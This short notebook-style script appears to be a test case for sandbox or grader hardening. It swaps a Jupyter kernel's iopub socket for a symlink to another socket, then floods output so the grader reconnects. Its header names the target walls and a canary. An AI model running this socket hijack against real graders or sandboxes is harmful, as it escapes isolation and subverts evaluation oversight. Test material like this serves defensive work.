# tries: puts a link to somebody else's socket in the place of its own, and lets the grader connect again
# walls: known sockets
# canary: socket
# proof: namespaces/root
# %%
import os

from ipykernel.kernelapp import IPKernelApp

app = IPKernelApp.instance()
place = f"{app.ip}-{app.iopub_port}"
os.rename(place, place + ".old")
os.symlink("@SOCKET@", place)
print(os.readlink(place))
# %%
from IPython.display import display

display({"text/plain": "a" * 20_000_000}, raw=True)
# %%
print("again")
